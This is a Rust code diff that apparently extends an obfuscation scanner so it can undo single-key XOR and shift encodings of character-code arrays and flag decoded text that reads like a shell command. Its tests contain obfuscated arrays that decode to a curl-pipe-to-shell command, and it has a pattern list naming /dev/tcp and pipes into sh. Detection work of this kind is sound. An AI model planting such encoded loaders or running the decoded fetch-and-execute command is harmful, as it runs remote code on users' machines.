@@ -229,8 +229,21 @@ fn decode(encoded: &str, enc: Enc, left: &mut usize) -> Decoding {
         return out;
     };
     let mut chain = vec![name];
-    if matches!(enc, Enc::CharCodes | Enc::Chr) && !worded(&bytes) {
-        return out;
+    let mut bytes = bytes;
+    if matches!(enc, Enc::CharCodes | Enc::Chr) {
+        // Codes kept from the eye by one key (`x ^ 7`, `c - 3`): undone
+        // when that yields a command line and the codes as they are do not.
+        let plain = printable_codes(&bytes) && worded(&bytes);
+        if !plain || !command_shaped(&bytes) {
+            match unkeyed(&bytes) {
+                Some((layer, keyed)) => {
+                    chain.push(layer);
+                    bytes = keyed;
+                }
+                None if !plain => return out,
+                None => {}
+            }
+        }
     }
     if let Some(text) = readable(&bytes) {
         *left = left.saturating_sub(text.len());
@@ -510,8 +523,78 @@ fn escapes(encoded: &str, limit: usize) -> Option<(&'static str, Vec<u8>)> {
         .then_some((if only_x { "hex" } else { "unicode-escapes" }, out))
 }
 
+/// Whether every code is a printable ASCII character (or a tab or newline).
+fn printable_codes(bytes: &[u8]) -> bool {
+    bytes.iter().all(|b| (9..=126).contains(b))
+}
+
+/// A way codes are keyed: its name, how a code is undone with a key, and
+/// the key.
+type Key = (&'static str, fn(u8, u8) -> u8, u8);
+
+/// Character codes hidden with one key, as obfuscators do (`x ^ K`,
+/// `c + K`): each code present is tried as the one for a space (a command
+/// line has spaces), which gives the key; a key is dropped at the first
+/// code it does not make printable, so few get far. A result is kept when
+/// it reads as a command line: a quarter letters, with an address, a socket
+/// device or a pipe into a shell in it; of those, the one most made of
+/// lowercase words.
+fn unkeyed(codes: &[u8]) -> Option<(&'static str, Vec<u8>)> {
+    let mut present = [false; 256];
+    for &c in codes {
+        present[usize::from(c)] = true;
+    }
+    let letters = |plain: &[u8]| plain.iter().filter(|b| b.is_ascii_alphabetic()).count();
+    // Words: lowercase letters and the spaces between them.
+    let wordy = |plain: &[u8]| {
+        plain
+            .iter()
+            .filter(|b| b.is_ascii_lowercase() || **b == b' ')
+            .count()
+    };
+    let mut best: Option<(&'static str, Vec<u8>)> = None;
+    for space in (0..=255u8).filter(|&c| present[usize::from(c)]) {
+        let keys: [Key; 2] = [
+            ("xor", |c, k| c ^ k, space ^ b' '),
+            ("shift", |c, k| c.wrapping_sub(k), space.wrapping_sub(b' ')),
+        ];
+        for (layer, undo, key) in keys {
+            if key == 0 || !codes.iter().all(|&c| printable_codes(&[undo(c, key)])) {
+                continue;
+            }
+            let plain: Vec<u8> = codes.iter().map(|&c| undo(c, key)).collect();
+            if letters(&plain) * 4 >= plain.len()
+                && command_shaped(&plain)
+                && best.as_ref().is_none_or(|(_, b)| wordy(b) < wordy(&plain))
+            {
+                best = Some((layer, plain));
+            }
+        }
+    }
+    best
+}
+
+/// Whether decoded text looks like a command line: words with an address,
+/// a socket device, a pipe into a shell or a `-c` line.
+fn command_shaped(bytes: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(bytes);
+    text.contains(' ')
+        && [
+            "://",
+            "/dev/tcp/",
+            "/dev/udp/",
+            "| sh",
+            "| bash",
+            "|sh",
+            "|bash",
+            " -c ",
+        ]
+        .iter()
+        .any(|s| text.contains(s))
+}
+
 /// The integers of a character-code list or a `chr(…)+chr(…)` chain, each
-/// in 9..=126.
+/// a byte (what a key turns into text is judged by the caller).
 fn char_codes(encoded: &str, limit: usize) -> Option<Vec<u8>> {
     let inner = encoded.replace("chr(", " ");
     let mut out = Vec::new();
@@ -523,9 +606,6 @@ fn char_codes(encoded: &str, limit: usize) -> Option<Vec<u8>> {
             Some(h) => u8::from_str_radix(h, 16).ok()?,
             None => part.parse::<u8>().ok()?,
         };
-        if !(9..=126).contains(&n) {
-            return None;
-        }
         if out.len() < limit {
             out.push(n);
         }
@@ -678,6 +758,31 @@ mod tests {
                 .is_empty()
         );
         assert!(blobs("[65, 66, 67, 68, 69, 70, 71, 72]", 1000).blobs.len() == 1);
+    }
+
+    #[test]
+    fn character_codes_under_one_key() {
+        for (text, layer) in [
+            (
+                "const _k = [100,114,117,107,39,42,116,39,111,115,115,119,61,40,40,54,62,53,41,55,41,53,41,62,40,110,39,123,39,116,111];",
+                "xor",
+            ),
+            (
+                "const enc = [102,120,117,111,35,48,118,35,107,119,119,115,61,50,50,52,60,53,49,51,49,53,49,60,50,108,35,127,35,118,107];",
+                "shift",
+            ),
+        ] {
+            let blob = one(text);
+            assert_eq!(blob.chain, vec!["char-codes", layer]);
+            assert_eq!(blob.decoded, "curl -s http://192.0.2.9/i | sh");
+        }
+        // A table of numbers under no key that makes a command line.
+        for table in [
+            "[200, 201, 202, 203, 204, 205, 206, 207, 208, 209]",
+            "[3, 1, 4, 1, 5, 9, 2, 6, 5, 3, 5, 8, 9, 7, 9, 3, 2, 3, 8, 4]",
+        ] {
+            assert!(blobs(table, 1000).blobs.is_empty(), "{table}");
+        }
     }
 
     #[test]
